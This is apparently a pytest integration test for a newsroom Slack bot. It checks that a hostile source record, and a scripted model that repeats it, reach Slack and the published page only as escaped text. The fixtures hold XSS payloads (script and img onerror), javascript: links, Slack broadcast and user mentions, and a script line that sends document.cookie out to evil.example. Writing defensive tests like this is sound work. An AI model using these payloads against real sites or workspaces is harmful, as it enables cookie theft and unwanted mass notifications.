"""Hostile input end to end: a stranger's record and a model repeating it, through Slack to publication."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import html as lxml_html

from newsroom.settings import Settings
from newsroom.slack.app import build_app, build_context
from newsroom.slack.blocks import APPROVE
from newsroom.slack.server import http_server
from tests.fakes.scripted import DEMO, Values, good_draft, scripted
from tests.fakes.slack import FakeSlack, fake_slack
from tests.fakes.slackreq import click, command, post
from tests.integration.test_slack import CHANNEL, EDITOR, PUBLISH, Bot, button, slack_env, wait_drafts

EVIL_TITLE = "DeepSeek funding <img src=x onerror=alert(document.domain)> round | <!channel> > more"
EVIL_RECORD = {
    "id": "evil-1",
    "url": "javascript:alert(document.cookie)",
    "title": EVIL_TITLE,
    "outlet": "Wire <script>alert(document.domain)</script> *bold* <!here>",
    "published_at": "2026-10-21T09:00:00Z",
    "text": "DeepSeek is raising money in a funding round led by Tencent, investors say. "
    "<script>fetch('https://evil.example/'+document.cookie)</script> <!channel> <@U0ATTACK> "
    "The round has drawn interest from several Chinese technology groups and state funds.",
}


def hostile_writer(prompt_id: str, values: Values, schema: Any) -> dict[str, Any]:
    """A model that repeats what it read: markup, mentions, a javascript: link."""
    draft = good_draft(values)
    evil = next((s["n"] for s in values["sources_given"] if s["record_id"] == EVIL_RECORD["id"]), None)
    draft["headline"] = "Who backs DeepSeek? <img src=x onerror=alert(document.domain)> <!channel>"
    draft["dek"] = "Accounts differ <script>alert(document.domain)</script> <!here> <@U0ATTACK>."
    draft["faq"][0]["answer"] += " <!everyone> [click](javascript:alert(document.domain)) <#C0SECRET>"
    if evil is not None:
        draft["faq"][0]["citations"].append(evil)
    return draft


@pytest.fixture
def hostile_bot(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Bot]:
    records = tmp_path / "evil.jsonl"
    records.write_text(DEMO.read_text() + json.dumps(EVIL_RECORD) + "\n")
    with fake_slack() as slack:
        slack_env(monkeypatch, slack, tmp_path / "data")
        settings = Settings()
        ctx = build_context(settings, model_override=scripted(writer=hostile_writer))
        room = ctx.room
        report = room.ingest([str(records)])
        assert "evil-1" in {r.id for r in report.added}
        server = http_server(build_app(ctx), "127.0.0.1", 0)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield Bot(f"http://127.0.0.1:{server.server_address[1]}", slack, room)
        finally:
            server.shutdown()
            server.server_close()


# What code itself may put in Slack's angle brackets: the requester, the editor, the publish channel,
# a date, and http(s) links.
_ALLOWED = re.compile(r"^(@UREQ|@UEDITOR|#" + PUBLISH + r"|!date\^.*|https?://[^\s|<>]+\|[^<>]*)$")


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def live_controls(slack: FakeSlack) -> list[str]:
    """Every `<…>` Slack would act on (mention, broadcast, channel, link) that code did not put there."""
    found = []
    for call in slack.calls:
        body = {k: v for k, v in call["body"].items() if k in ("text", "blocks")}
        for text in _strings(body):
            found += [m for m in re.findall(r"<([^<>]*)>", text) if not _ALLOWED.match(m)]
    return found


def test_a_hostile_record_and_a_model_repeating_it_reach_slack_and_the_page_as_text(hostile_bot: Bot) -> None:
    bot = hostile_bot
    assert post(bot.url, command("explain the DeepSeek funding round", trigger="T-evil")).status_code == 200
    draft = wait_drafts(bot.slack, 1)[0]
    story = json.loads(button(draft, APPROVE))["story_id"]
    ex = bot.room.show(story)
    assert any(s["record_id"] == "evil-1" for s in ex["sources"]), "the hostile record was not used"

    assert (
        post(bot.url, click(APPROVE, button(draft, APPROVE), EDITOR, CHANNEL, draft["_ts"])).status_code
        == 200
    )
    published = bot.slack.wait_for("chat.postMessage", channel=PUBLISH)
    assert published
    text = json.dumps([c["body"] for c in bot.slack.calls])
    # the hostile strings arrived, as text
    assert "&lt;!channel&gt;" in text and "&lt;@U0ATTACK&gt;" in text
    assert live_controls(bot.slack) == []

    page = Path(bot.room.show(story)["published"]["html"]).read_text()
    tree = lxml_html.document_fromstring(page)
    assert tree.xpath("//script | //img | //iframe | //object | //embed | //style") == []
    assert [a for el in tree.iter() for a in el.attrib if a.lower().startswith("on")] == []
    hrefs = [h for h in tree.xpath("//@href | //@src")]
    assert hrefs and all(h.startswith(("http://", "https://")) for h in hrefs)
    assert "alert(document.domain)" in tree.text_content()  # shown, not run
    assert "javascript:alert(document.cookie)" in tree.text_content()  # the record's URL, as text

    markdown = Path(bot.room.show(story)["published"]["md"]).read_text()
    assert "\\<img src=x onerror" in markdown and "<img" not in markdown.replace("\\<img", "")
    assert not re.search(r"(?<!\\)\]\(javascript:", markdown)  # `\[click\](javascript:…)` is text
